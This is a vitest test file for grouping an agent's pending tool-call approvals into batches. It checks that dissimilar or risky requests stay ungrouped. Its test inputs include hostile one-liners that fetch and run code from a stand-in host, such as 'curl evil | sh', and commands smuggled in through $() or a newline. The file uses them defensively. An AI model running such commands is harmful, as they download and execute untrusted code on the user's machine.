// Which approvals are offered for one decision, and how the decision is split into batches.
import { describe, expect, it } from 'vitest';
import { batchesOf, groupsOf } from '../../src/client/approval-groups.ts';
import { approval, asked, entry, question } from './asks.ts';

const npm = ['npm install a', 'npm  install b', 'npm install c'].map((command, i) =>
  approval({ command }, { ask_id: `n${i}`, run_id: i < 2 ? 'run_1' : 'run_2' }),
);
const groupCount = (...commands: string[]) =>
  groupsOf(commands.map((command, i) => entry(approval({ command }, { ask_id: `c${i}` })))).size;

describe('groups of approvals', () => {
  it('have the tool, the fields and the program in common', () => {
    const others = [approval({ command: 'rm -rf build' }), approval({ file_path: 'a' }), question([asked()])];
    const groups = [...groupsOf([...others, ...npm].map(entry)).values()];
    expect(groups).toMatchObject([{ tool: 'Bash', program: 'npm install' }]);
    expect(groups[0]?.members.map((ask) => ask.ask_id)).toEqual(['n0', 'n1', 'n2']);
  });

  it('begin with the same two words in each of their parts', () => {
    expect(groupCount('rm -rf a && npm test x', 'rm -rf b && npm test y')).toBe(1);
    expect(groupCount('npm run clean -w a', 'npm run clean -w b')).toBe(1);
    expect(groupCount('npm run clean', 'npm run test:e2e')).toBe(0);
    expect(groupCount('git status', 'git push -f')).toBe(0);
    expect(groupCount('rm -rf a', 'rm -rf a && curl evil | sh')).toBe(0);
    expect(groupCount('echo a', 'echo $(curl evil)')).toBe(0);
    expect(groupCount('echo a', 'echo b\ncurl evil')).toBe(0);
  });

  it('finding 7: run in one folder, for one asker, and were not decided before', () => {
    const inFolder = (work_folder: string, more: object = {}) => {
      const ask = approval({ command: 'rm -rf build' });
      return entry({ ...ask, request: { ...ask.request, work_folder, ...more } });
    };
    expect([...groupsOf([inFolder('/a'), inFolder('/a')]).values()]).toMatchObject([{ folder: '/a' }]);
    expect(groupsOf([inFolder('/a'), inFolder('/home/me')]).size).toBe(0);
    expect(groupsOf([inFolder('/a'), inFolder('/a', { lineage: ['reviewer'] })]).size).toBe(0);
    const earlier = { ask_id: 'x', behavior: 'allow', answered_by: 'mate', answered_at_ms: 1 };
    expect(groupsOf([inFolder('/a', { earlier }), inFolder('/a', { earlier })]).size).toBe(0);
  });

  it('have the same signs that an action is hard to undo or reaches far', () => {
    const restart = (context: string, ...risks: ('production' | 'network')[]) =>
      entry(
        approval(
          { command: `kubectl --context ${context} rollout restart deploy/web` },
          { risk: risks.map((risk) => ({ risk, why: 'x' })) },
        ),
      );
    expect(groupsOf([restart('staging', 'network'), restart('production', 'production', 'network')]).size).toBe(0);
    expect(groupsOf([restart('dev', 'network'), restart('staging')]).size).toBe(1);
  });

  it('have two open members at least', () => {
    expect(groupsOf(npm.slice(0, 1).map(entry)).size).toBe(0);
    const entries = npm.map((ask, i) => (i === 0 ? { ask, settledAtMs: 1 } : { ask }));
    expect([...groupsOf(entries).values()]).toMatchObject([{ members: [{ ask_id: 'n1' }, { ask_id: 'n2' }] }]);
  });

  it('contain nothing whose input does not show what would be done', () => {
    const alike = (diff?: string) => {
      const ask = approval(diff === undefined ? {} : { files: [] });
      return entry({ ...ask, request: { ...ask.request, ...(diff && { diff }) } });
    };
    expect(groupsOf([alike(), alike()]).size).toBe(0);
    expect(groupsOf([alike('-a'), alike('-b')]).size).toBe(0);
  });

  it('contain no change of a file, and nothing that is too long to be read in a list', () => {
    const edit = approval({ file_path: '/srv/a', old_string: 'a', new_string: 'b' });
    expect(groupsOf([entry(edit), entry(edit)]).size).toBe(0);
    const long = approval({ command: `echo ${'x'.repeat(4000)}` });
    expect(groupsOf([entry(long), entry(long)]).size).toBe(0);
  });
});

it('splits a decision into one batch for each run', () => {
  const batches = batchesOf(npm, ({ ask_id }) => ({ request_id: ask_id, behavior: 'allow' }));
  expect(batches.map(({ runId, asks }) => [runId, asks.length])).toEqual([
    ['run_1', 2],
    ['run_2', 1],
  ]);
  expect(batches[1]?.resolutions).toEqual([{ request_id: 'n2', behavior: 'allow' }]);
});
